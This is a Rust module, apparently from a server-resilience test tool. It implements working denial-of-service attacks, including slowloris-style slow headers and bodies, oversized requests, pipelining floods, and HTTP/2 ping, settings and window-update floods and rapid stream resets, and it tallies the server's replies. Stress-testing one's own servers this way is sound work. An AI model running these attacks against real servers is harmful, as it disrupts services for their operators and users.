//! The attacks.

use std::collections::BTreeMap;
use std::io::{ErrorKind, Read, Write};
use std::net::{Shutdown, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use super::Target;

type Statuses = BTreeMap<u16, usize>;

/// What is done to a server.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// A name, in a word.
    pub name: &'static str,
    /// How many connections are worth it, where there are enough files for them.
    pub connections: usize,
    /// Attacks with so many connections for so long, and counts the answers.
    pub(super) run: fn(&Target, usize, Duration) -> Statuses,
}

/// All of them.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "silent",
        connections: 10_000,
        run: silent,
    },
    Attack {
        name: "idle",
        connections: 9_000,
        run: idle,
    },
    Attack {
        name: "slow-heads",
        connections: 9_000,
        run: slow_heads,
    },
    Attack {
        name: "slow-bodies",
        connections: 5_000,
        run: slow_bodies,
    },
    Attack {
        name: "large-heads",
        connections: 200,
        run: large_heads,
    },
    Attack {
        name: "large-bodies",
        connections: 50,
        run: large_bodies,
    },
    Attack {
        name: "large-chunks",
        connections: 50,
        run: large_chunks,
    },
    Attack {
        name: "held-bodies",
        connections: 100,
        run: held_bodies,
    },
    Attack {
        name: "deaf",
        connections: 500,
        run: deaf,
    },
    Attack {
        name: "deaf-streams",
        connections: 50,
        run: deaf_streams,
    },
    Attack {
        name: "pipelines",
        connections: 50,
        run: pipelines,
    },
    Attack {
        name: "eager-pipelines",
        connections: 50,
        run: eager_pipelines,
    },
    Attack {
        name: "pings",
        connections: 100,
        run: pings,
    },
    Attack {
        name: "eager-pings",
        connections: 100,
        run: eager_pings,
    },
    Attack {
        name: "settings",
        connections: 100,
        run: settings,
    },
    Attack {
        name: "eager-settings",
        connections: 100,
        run: eager_settings,
    },
    Attack {
        name: "empty-data",
        connections: 100,
        run: empty_data,
    },
    Attack {
        name: "small-data",
        connections: 100,
        run: small_data,
    },
    Attack {
        name: "priorities",
        connections: 100,
        run: priorities,
    },
    Attack {
        name: "window-updates",
        connections: 100,
        run: window_updates,
    },
    Attack {
        name: "resets",
        connections: 50,
        run: resets,
    },
];

/// Opens the connections, and lets each begin with `start`.
fn open(target: &Target, count: usize, start: &[u8]) -> Vec<TcpStream> {
    let streams = (0..count).filter_map(|_| {
        let mut stream = target.connect().ok()?;
        stream.write_all(start).ok()?;
        Some(stream)
    });
    streams.collect()
}

/// The status of the answer, if one comes before the connection is closed.
fn status(stream: &mut TcpStream) -> u16 {
    let mut head = [0; 12];
    match stream.read_exact(&mut head) {
        Ok(()) => String::from_utf8_lossy(&head[9..]).parse().unwrap_or(0),
        Err(_) => 0,
    }
}

fn statuses(streams: &mut [TcpStream]) -> Statuses {
    let mut statuses = Statuses::new();
    for stream in streams {
        *statuses.entry(status(stream)).or_default() += 1;
    }
    statuses
}

/// Writes a byte to each now and then, and counts those that the server has given up; of these, what
/// it said.
fn trickle(mut streams: Vec<TcpStream>, hold: Duration) -> Statuses {
    let started = Instant::now();
    while started.elapsed() < hold {
        for stream in &mut streams {
            let _ = stream.write(b"x");
        }
        thread::sleep(Duration::from_secs(1));
    }
    given_up(&mut streams)
}

/// What was said to those that the server has given up by now.
fn given_up(streams: &mut [TcpStream]) -> Statuses {
    let mut statuses = Statuses::new();
    for stream in streams {
        stream.set_nonblocking(true).unwrap();
        let mut head = [0; 12];
        let status = match stream.read(&mut head) {
            Ok(12) => String::from_utf8_lossy(&head[9..]).parse().unwrap_or(0),
            Err(error) if error.kind() == ErrorKind::WouldBlock => continue,
            _ => 0,
        };
        *statuses.entry(status).or_default() += 1;
    }
    statuses
}

/// Says nothing.
fn silent(target: &Target, count: usize, hold: Duration) -> Statuses {
    let mut streams = open(target, count, b"");
    thread::sleep(hold);
    given_up(&mut streams)
}

/// Says nothing more after a request.
fn idle(target: &Target, count: usize, hold: Duration) -> Statuses {
    let mut streams = open(target, count, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
    for stream in &mut streams {
        let mut answer = Vec::new();
        let mut piece = [0; 1024];
        while !answer.ends_with(b"home") {
            match stream.read(&mut piece) {
                Ok(read) if read > 0 => answer.extend_from_slice(&piece[..read]),
                _ => break,
            }
        }
    }
    thread::sleep(hold);
    given_up(&mut streams)
}

/// Never comes to the end of its head.
fn slow_heads(target: &Target, count: usize, hold: Duration) -> Statuses {
    let start = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ";
    trickle(open(target, count, start), hold)
}

/// Never comes to the end of its body.
fn slow_bodies(target: &Target, count: usize, hold: Duration) -> Statuses {
    let start = b"POST /upload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100000\r\n\r\n";
    trickle(open(target, count, start), hold)
}

/// Sends more than is taken; the answer may come meanwhile.
fn flood(stream: &mut TcpStream, bytes: &[u8], times: usize) {
    for _ in 0..times {
        if stream.write_all(bytes).is_err() {
            return;
        }
    }
    let _ = stream.shutdown(Shutdown::Write);
}

/// Sends heads of 1 MB.
fn large_heads(target: &Target, count: usize, _: Duration) -> Statuses {
    let mut streams = open(
        target,
        count,
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Large: ",
    );
    for stream in &mut streams {
        flood(stream, &[b'x'; 65_536], 16);
    }
    statuses(&mut streams)
}

/// Sends bodies of 20 MB whose length is said.
fn large_bodies(target: &Target, count: usize, _: Duration) -> Statuses {
    let head = b"POST /upload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 20971520\r\n\r\n";
    let mut streams = open(target, count, head);
    for stream in &mut streams {
        flood(stream, &[b'x'; 65_536], 320);
    }
    statuses(&mut streams)
}

/// Sends bodies of 20 MB in chunks.
fn large_chunks(target: &Target, count: usize, _: Duration) -> Statuses {
    let head = b"POST /upload HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n";
    let mut streams = open(target, count, head);
    let chunk = [&b"10000\r\n"[..], &[b'x'; 65_536], b"\r\n"].concat();
    for stream in &mut streams {
        flood(stream, &chunk, 320);
    }
    statuses(&mut streams)
}

/// Sends almost all of bodies that are just not too large, and waits.
fn held_bodies(target: &Target, count: usize, hold: Duration) -> Statuses {
    let head = b"POST /upload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 10485760\r\n\r\n";
    let mut streams = open(target, count, head);
    for stream in &mut streams {
        for _ in 0..159 {
            if stream.write_all(&[b'x'; 65_536]).is_err() {
                break;
            }
        }
    }
    thread::sleep(hold);
    given_up(&mut streams)
}

/// Asks for 64 MB and reads nothing of it.
fn deaf(target: &Target, count: usize, hold: Duration) -> Statuses {
    let streams = open(
        target,
        count,
        b"GET /large HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    );
    thread::sleep(hold);
    drop(streams);
    Statuses::new()
}

/// What those who press do with the answers.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Answers {
    /// They leave them, so that the server can send no more at some time.
    Left,
    /// They take them, so that the server never has to wait.
    Taken,
}

/// Many requests in a row.
fn requests() -> Vec<u8> {
    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".repeat(1000)
}

/// Sends as many requests as are taken, and reads no answer.
fn pipelines(target: &Target, count: usize, hold: Duration) -> Statuses {
    press(target, count, b"", &requests(), Answers::Left, hold)
}

/// Sends as many requests as are taken, and reads the answers.
fn eager_pipelines(target: &Target, count: usize, hold: Duration) -> Statuses {
    press(target, count, b"", &requests(), Answers::Taken, hold)
}

/// Writes as much as is taken, on connections that begin with `start`; for one that is let go another
/// comes. Counts those that were let go.
fn press(
    target: &Target,
    count: usize,
    start: &[u8],
    bytes: &[u8],
    answers: Answers,
    hold: Duration,
) -> Statuses {
    let started = Instant::now();
    let mut scrap = vec![0; 256 * 1024];
    let mut statuses = Statuses::new();
    // Each with where in `bytes` it is.
    let mut streams: Vec<(TcpStream, usize)> = Vec::new();
    while started.elapsed() < hold {
        for stream in open(target, count - streams.len(), start) {
            stream.set_nonblocking(true).unwrap();
            streams.push((stream, 0));
        }
        streams.retain_mut(|(stream, place)| {
            let written = stream.write(&bytes[*place..]);
            *place = (*place + written.as_ref().unwrap_or(&0)) % bytes.len();
            let is_open =
                is_open(written) && (answers == Answers::Left || is_open(stream.read(&mut scrap)));
            if !is_open {
                *statuses.entry(0).or_default() += 1;
            }
            is_open
        });
        thread::sleep(Duration::from_millis(1));
    }
    statuses
}

/// Whether a connection on which so much was read or written is open.
fn is_open(done: std::io::Result<usize>) -> bool {
    match done {
        Ok(bytes) => bytes > 0,
        Err(error) => error.kind() == ErrorKind::WouldBlock,
    }
}

/// What a client of HTTP/2 begins with (RFC 9113 section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const PING: &[u8] = b"\0\0\x08\x06\0\0\0\0\0abcdefgh";
const SETTINGS: &[u8] = b"\0\0\0\x04\0\0\0\0\0";

/// Asks a hundred times for 64 MB on each connection, makes room for all of it, and reads nothing.
fn deaf_streams(target: &Target, count: usize, hold: Duration) -> Statuses {
    // INITIAL_WINDOW_SIZE as large as it can be, and as much for the connection.
    let mut frames = [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        &b"\0\0\x06\x04\0\0\0\0\0\0\x04\x7f\xff\xff\xff"[..],
        b"\0\0\x04\x08\0\0\0\0\0\x7f\xff\0\0",
    ]
    .concat();
    for number in (1_u32..200).step_by(2) {
        // GET, http, the path "/large", and the authority.
        let fields = b"\x82\x86\x04\x06/large\x01\x09127.0.0.1";
        frames.extend_from_slice(&[0, 0, fields.len() as u8, 1, 5]);
        frames.extend_from_slice(&number.to_be_bytes());
        frames.extend_from_slice(fields);
    }
    let streams = open(target, count, &frames);
    thread::sleep(hold);
    drop(streams);
    Statuses::new()
}

/// Sends pings, and reads no answer.
fn pings(target: &Target, count: usize, hold: Duration) -> Statuses {
    let pings = PING.repeat(1000);
    press(target, count, PREFACE, &pings, Answers::Left, hold)
}

/// Sends pings, and reads the answers.
fn eager_pings(target: &Target, count: usize, hold: Duration) -> Statuses {
    let pings = PING.repeat(1000);
    press(target, count, PREFACE, &pings, Answers::Taken, hold)
}

/// Sends settings, and reads no answer.
fn settings(target: &Target, count: usize, hold: Duration) -> Statuses {
    let settings = SETTINGS.repeat(1000);
    press(target, count, PREFACE, &settings, Answers::Left, hold)
}

/// Sends settings, and reads the answers.
fn eager_settings(target: &Target, count: usize, hold: Duration) -> Statuses {
    let settings = SETTINGS.repeat(1000);
    press(target, count, PREFACE, &settings, Answers::Taken, hold)
}

/// Sends a body in pieces that hold nothing.
fn empty_data(target: &Target, count: usize, hold: Duration) -> Statuses {
    let pieces = b"\0\0\0\0\0\0\0\0\x01".repeat(1000);
    press(target, count, &upload(), &pieces, Answers::Taken, hold)
}

/// Sends a body in pieces of one byte.
fn small_data(target: &Target, count: usize, hold: Duration) -> Statuses {
    let pieces = b"\0\0\x01\0\0\0\0\0\x01x".repeat(1000);
    press(target, count, &upload(), &pieces, Answers::Taken, hold)
}

/// Says again and again how important a request is that is not there.
fn priorities(target: &Target, count: usize, hold: Duration) -> Statuses {
    let priorities = b"\0\0\x05\x02\0\0\0\0\x01\0\0\0\0\x10".repeat(1000);
    press(target, count, PREFACE, &priorities, Answers::Taken, hold)
}

/// Makes room for one byte of an answer, again and again.
fn window_updates(target: &Target, count: usize, hold: Duration) -> Statuses {
    let updates = b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01".repeat(1000);
    press(target, count, PREFACE, &updates, Answers::Taken, hold)
}

/// The start of a connection with an upload whose body is to come.
fn upload() -> Vec<u8> {
    // POST, http, the path "/upload", and the authority.
    let fields = b"\x83\x86\x04\x07/upload\x01\x09127.0.0.1";
    let head = [0, 0, fields.len() as u8, 1, 4, 0, 0, 0, 1];
    [PREFACE, &head, fields].concat()
}

/// Begins requests and cancels them at once.
fn resets(target: &Target, count: usize, hold: Duration) -> Statuses {
    let mut frames = Vec::new();
    for number in (1_u32..20_000).step_by(2) {
        // GET, http, /, authority "a"; the end of the stream and of its headers.
        frames.extend_from_slice(b"\0\0\x06\x01\x05");
        frames.extend_from_slice(&number.to_be_bytes());
        frames.extend_from_slice(b"\x82\x86\x84\x01\x01a");
        // RST_STREAM, for CANCEL.
        frames.extend_from_slice(b"\0\0\x04\x03\0");
        frames.extend_from_slice(&number.to_be_bytes());
        frames.extend_from_slice(b"\0\0\0\x08");
    }
    press(target, count, PREFACE, &frames, Answers::Left, hold)
}
